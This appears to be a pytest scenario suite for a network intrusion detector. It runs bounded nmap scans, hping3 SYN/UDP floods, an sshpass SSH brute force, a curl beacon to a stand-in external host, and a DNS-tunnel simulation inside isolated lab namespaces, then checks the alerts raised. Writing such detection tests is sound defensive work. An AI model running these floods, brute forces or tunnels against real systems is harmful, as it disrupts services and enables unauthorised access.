"""Real attacks, live: real tools in namespaces this test creates, against the radar watching them.

Each scenario starts ``flowradar analyze -i`` in the attacker's namespace, runs one bounded attack
(nmap, hping3, an SSH brute force, a beacon, a DNS tunnel) and requires the right alert kind, subject
and severity, raised within 5 s of the traffic that crossed the threshold, and no other alert. A
benign mix of curl and dig must raise none. Time is compressed for the beacon by configuration
(``beacon_window_s = 24``: a 24-hour window of 24 one-second bins). See attack_lab.py for the lab.
"""

from __future__ import annotations

import random
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from tests.scenarios.attack_lab import SCANNER_EXTERNAL, Expect, Lab, Outcome, lab_namespaces, run_scenario
from tests.scenarios.netns import sh

pytestmark = pytest.mark.scenario

INTERNAL, TARGET = "10.201.0.1", "10.201.0.2"
MAX_DELAY_S = 5.0
SSH_OPTIONS = (
    "StrictHostKeyChecking=no",
    "UserKnownHostsFile=/dev/null",
    "LogLevel=ERROR",
    "PreferredAuthentications=password",
    "NumberOfPasswordPrompts=1",
    "ConnectTimeout=5",
)


def _need(*tools: str) -> None:
    for tool in tools:
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed (Makefile DEB_PACKAGES)")


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with lab_namespaces(tmp_path_factory.mktemp("attacks")) as made:
        yield made


def _check(out: Outcome, expect: Expect) -> None:
    assert out.found is not None, (
        f"{out.name}: no {expect.kind} alert about {expect.subject}; got {out.alerts}"
    )
    assert out.found["severity"] in expect.severities, out.line()
    assert not expect.final or (out.latest or {}).get("severity") in expect.final, out.line()
    assert out.delay <= MAX_DELAY_S, out.line()
    crossed = out.found["trigger_ts"]
    assert out.started - 1 <= crossed <= out.ended + 1, f"threshold crossed outside the attack: {out.line()}"
    assert not out.false_alerts, f"{out.name}: unexpected alerts {out.false_alerts}"


def _tool(lab: Lab, *cmd: str) -> None:
    """Run an attack tool in the attacker's namespace, bounded to 40 s."""
    sh("timeout", "40", *cmd, ns=lab.a, check=False)


def _scan(lab: Lab, name: str, expect: Expect, *args: str) -> None:
    _need("nmap")
    _check(
        run_scenario(lab, name, lambda: _tool(lab, "nmap", "-n", "--max-retries", "1", *args), expect), expect
    )


def test_syn_scan_from_an_internal_host(lab: Lab) -> None:
    _scan(
        lab, "nmap -sS", Expect("scan", INTERNAL, ("high",), "port_scan"), "-Pn", "-sS", "-p", "1-400", TARGET
    )


def test_connect_scan_from_outside(lab: Lab) -> None:
    expect = Expect("scan", SCANNER_EXTERNAL, ("medium",), "port_scan")
    _scan(lab, "nmap -sT", expect, "-Pn", "-sT", "-p", "1-100", "10.202.0.5")


def test_udp_scan_from_outside(lab: Lab) -> None:
    expect = Expect("scan", SCANNER_EXTERNAL, ("medium",), "port_scan")
    _scan(lab, "nmap -sU", expect, "-Pn", "-sU", "-p", "1-100", "10.202.0.6")


def test_ping_sweep(lab: Lab) -> None:
    expect = Expect("scan", SCANNER_EXTERNAL, ("medium",), "address_scan")
    _scan(lab, "nmap -sn", expect, "-sn", "--send-ip", "10.202.0.0/26")


def test_slow_scan(lab: Lab) -> None:
    expect = Expect("scan", SCANNER_EXTERNAL, ("medium",), "port_scan")
    _scan(lab, "nmap -T2", expect, "-Pn", "-sS", "-T2", "-p", "1-30", "10.202.0.7")


def _flood(lab: Lab, name: str, expect: Expect, *args: str) -> None:
    _need("hping3")
    attack = lambda: _tool(lab, "hping3", "-q", "-c", "3000", "--faster", *args, TARGET)  # noqa: E731
    _check(run_scenario(lab, name, attack, expect), expect)


def test_syn_flood(lab: Lab) -> None:
    _flood(lab, "hping3 SYN flood", Expect("flood", TARGET, ("high",), "tcp_syn_flood"), "-S", "-p", "8080")


def test_udp_flood(lab: Lab) -> None:
    _flood(lab, "hping3 UDP flood", Expect("flood", TARGET, ("high",), "udp_flood"), "--udp", "-p", "7000")


def _sshd(lab: Lab) -> subprocess.Popen[bytes]:
    key = lab.tmp / "hostkey"
    if not key.exists():
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    Path("/run/sshd").mkdir(exist_ok=True)
    options = [f"HostKey={key}", f"ListenAddress={TARGET}", "PidFile=none", "UsePAM=no", "MaxStartups=50"]
    options += ["PasswordAuthentication=yes", "KbdInteractiveAuthentication=no"]
    sshd = lab.background(
        lab.b, shutil.which("sshd") or "sshd", "-D", "-e", "-f", "/dev/null", *[f"-o{o}" for o in options]
    )
    time.sleep(0.5)
    return sshd


def test_ssh_brute_force(lab: Lab) -> None:
    _need("sshd", "sshpass", "ssh", "ssh-keygen")
    sshd = _sshd(lab)

    def attempt(i: int) -> None:
        ssh = ["ssh", *[f"-o{o}" for o in SSH_OPTIONS], f"admin{i % 3}@{TARGET}", "true"]
        sh("sshpass", "-p", f"guess{i}", *ssh, ns=lab.a, check=False)

    def brute() -> None:
        with ThreadPoolExecutor(4) as pool:
            list(pool.map(attempt, range(24)))

    expect = Expect("bruteforce", INTERNAL, ("high",), "ssh")
    try:
        _check(run_scenario(lab, "ssh brute force", brute, expect), expect)
    finally:
        sshd.terminate()
        sshd.wait(5)


def _http_server(lab: Lab, port: int) -> subprocess.Popen[bytes]:
    server = lab.background(lab.b, sys.executable, "-m", "http.server", str(port), "--bind", "0.0.0.0")
    time.sleep(0.7)
    return server


def test_beacon(lab: Lab) -> None:
    _need("curl")
    server = _http_server(lab, 8081)
    rng = random.Random(5)

    def beacon() -> None:
        for _ in range(17):  # a request a 'second' with jitter: 17 'hours' of a compressed day
            sh("curl", "-s", "-o", "/dev/null", "-m", "2", "http://203.0.113.5:8081/", ns=lab.a, check=False)
            time.sleep(max(0.0, 0.95 + rng.uniform(-0.1, 0.1)))

    expect = Expect("beacon", INTERNAL, ("low", "medium", "high"), final=("medium", "high"))
    try:
        _check(run_scenario(lab, "beacon", beacon, expect, wait_s=6), expect)
    finally:
        server.terminate()


def _resolver(lab: Lab) -> subprocess.Popen[bytes]:
    server = lab.background(lab.b, sys.executable, str(Path(__file__).with_name("dnsd.py")), TARGET)
    time.sleep(0.5)
    return server


def test_dns_tunnel(lab: Lab) -> None:
    _need("dig")
    server = _resolver(lab)
    rng = random.Random(7)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    names = ["".join(rng.choice(alphabet) for _ in range(32)) + ".t.exfil-tunnel.test" for _ in range(150)]
    batch = lab.tmp / "tunnel.txt"
    batch.write_text("".join(f"{n} TXT\n" for n in names))
    dig = ("dig", f"@{TARGET}", "+tries=1", "+time=1", "+short", "-f", str(batch))
    expect = Expect("dns_tunnel", INTERNAL, ("medium",))
    try:
        _check(run_scenario(lab, "dns tunnel", lambda: _tool(lab, *dig), expect), expect)
    finally:
        server.terminate()


def test_benign_mix_raises_nothing(lab: Lab) -> None:
    _need("curl", "dig")
    server, resolver = _http_server(lab, 8082), _resolver(lab)
    names = [
        f"{h}.{d}" for d in ("example.test", "shop.test", "news.test") for h in ("www", "api", "cdn", "img")
    ]
    batch = lab.tmp / "benign.txt"
    batch.write_text("".join(f"{n} A\n{n} AAAA\n" for n in names))

    def mix() -> None:
        for i in range(40):
            url = f"http://10.202.0.{10 + i % 20}:8082/"
            sh("curl", "-s", "-o", "/dev/null", "-m", "2", url, ns=lab.a, check=False)
        sh("dig", f"@{TARGET}", "+tries=1", "+time=1", "-f", str(batch), ns=lab.a, check=False)

    try:
        out = run_scenario(lab, "benign mix", mix, Expect("none", "-", ()), wait_s=3)
    finally:
        server.terminate()
        resolver.terminate()
    assert out.found is None and not out.alerts, f"benign traffic raised {out.alerts}"
